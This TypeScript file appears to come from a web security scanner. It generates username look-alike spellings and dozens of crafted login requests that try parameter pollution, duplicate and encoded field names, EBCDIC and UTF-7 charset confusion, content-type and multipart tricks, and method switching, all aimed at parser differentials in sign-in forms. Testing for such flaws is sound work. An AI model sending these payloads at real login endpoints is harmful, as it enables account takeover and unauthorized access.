import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { type Ask, FORM } from './client.ts';
import type { LoginForm } from './forms.ts';
import type { Account } from './product.ts';

/** Ways to write a name that some product or other takes for the name itself (legacy-logins §1.3). */
export function spellingsOf(name: string): string[] {
  const [first = '', ...rest] = name;
  const wide = String.fromCodePoint((first.codePointAt(0) ?? 0) + 0xfee0);
  return [
    name.toUpperCase(),
    `${first.toUpperCase()}${rest.join('')}`,
    ` ${name}`,
    `${name} `,
    `\t${name}`,
    `${name}\u00a0`,
    `_${name}_`,
    `${wide}${rest.join('')}`,
    `${first}\u00ad${rest.join('')}`,
    `\u202e${name}`,
    `${name}\u0301`,
    `${name}.`,
    `${name}@localhost`,
    `${name}@example.org`,
    `CORP\\${name}`,
    `${name}\0`,
    `${name}\0x`,
    `${name}\r\n`,
  ];
}

/** The letters that names of fields and people are made of, in EBCDIC (code page 037), percent-encoded. */
function ebcdic(text: string): string {
  const rows: readonly [string, number][] = [
    ['abcdefghi', 0x81],
    ['jklmnopqr', 0x91],
    ['stuvwxyz', 0xa2],
    ['ABCDEFGHI', 0xc1],
    ['JKLMNOPQR', 0xd1],
    ['STUVWXYZ', 0xe2],
    ['0123456789', 0xf0],
    ['_', 0x6d],
    ['!', 0x5a],
    ['-', 0x60],
    ['[', 0xba],
    [']', 0xbb],
  ];
  return [...text]
    .map((letter) => {
      const [letters, from] = rows.find(([row]) => row.includes(letter)) ?? ['?', 0x6f];
      return `%${(from + Math.max(0, letters.indexOf(letter))).toString(16)}`;
    })
    .join('');
}

const retyped = (ask: Ask, type: string, body: string | Buffer, more: Ask['headers'] = []): Ask => ({
  ...ask,
  headers: [['Content-Type', type], ['Accept', 'text/html'], ...(more ?? [])],
  body,
});

function multipart(fields: readonly (readonly [string, string])[], boundary: string): string {
  return `${fields.map(([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`).join('')}--${boundary}--\r\n`;
}

/**
 * Sign-ins of which some reader or other takes `mine` and another one `other`, whose password they carry. Made of a good
 * form of `mine` (legacy-logins §1.3).
 */
export function formDecoys(good: Ask, login: LoginForm, mine: Account, other: Account): Ask[] {
  const { account, secret } = login;
  const rest = [...new URLSearchParams(String(good.body))].filter(([name]) => name !== account && name !== secret);
  const base = [...rest, [secret, other.password] as const];
  const text = (...fields: readonly (readonly [string, string])[]): string =>
    new URLSearchParams([...base, ...fields].map(([name, value]): [string, string] => [name, value])).toString();
  const [decoy, real] = [[account, mine.name] as const, [account, other.name] as const];
  const alike = (name: string): string => `${text(decoy)}&${name}=${other.name}`;
  const encoded = [...account].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('');
  const bare = encodeURIComponent(account);
  const bodies = [
    text(decoy, real),
    text(real, decoy),
    alike(encoded),
    alike(`.${bare}`),
    alike(`%20${bare}`),
    alike(`+${bare}`),
    alike(`${bare}%00x`),
    alike(`${bare}[]`),
    alike(`${bare}%5B0%5D`),
    alike(bare.toUpperCase()),
    alike(bare.replace('_', '.')),
    alike(bare.replace('_', '%20')),
    `${text(decoy)};${bare}=${other.name}`,
    `${text(decoy)}&_charset_=ibm037&${ebcdic(account)}=${ebcdic(other.name)}`,
    `${text(decoy)}&${bare}`,
    `${text(decoy)}&${bare}=${other.name}%00`,
    `${text(decoy)}&${bare}=%ff${other.name}`,
  ].map((body) => ({ ...good, body }));
  const boundary = randomBytes(8).toString('hex');
  const parts = [...base, decoy, real];
  const inEbcdic = `${text(decoy)}&${ebcdic(account)}=${ebcdic(other.name)}&${ebcdic(secret)}=${ebcdic(other.password)}`;
  const query = `${good.target}${good.target.includes('?') ? '&' : '?'}${bare}=${other.name}`;
  const json = `{${[...base, decoy, real].map(([name, value]) => `${JSON.stringify(name)}:${JSON.stringify(value)}`).join()}}`;
  return [
    ...bodies,
    { ...good, target: query, body: text(decoy) },
    {
      ...good,
      target: `${query}&${encodeURIComponent(secret)}=${encodeURIComponent(other.password)}`,
      body: text(decoy),
    },
    retyped(good, `${FORM}; charset=ibm037`, inEbcdic),
    retyped(good, `${FORM}; charset=utf-16`, text(decoy, real)),
    retyped(good, `${FORM}; charset=utf-7`, text(decoy, real)),
    retyped(good, `text/plain, ${FORM}`, text(real)),
    retyped(good, `${FORM}, text/plain`, text(real)),
    retyped(good, 'text/plain', text(real)),
    retyped(good, 'application/json', json),
    retyped(good, `multipart/form-data; boundary=${boundary}`, multipart(parts, boundary)),
    retyped(good, `Multipart/Form-Data; boundary="${boundary}"`, multipart([...base, real], boundary)),
    retyped(good, `multipart/form-data; boundary=${boundary}; boundary=x`, multipart([...base, real], boundary)),
    retyped(good, FORM, gzipSync(text(real)), [['Content-Encoding', 'gzip']]),
    retyped(good, FORM, text(real), [['Content-Type', 'text/plain']]),
    { ...good, headers: [['Accept', 'text/html']], body: text(real) },
    { ...good, method: 'PUT', body: text(real) },
    { ...good, method: 'PATCH', body: text(real) },
    { ...good, method: 'GET', body: text(real) },
  ];
}
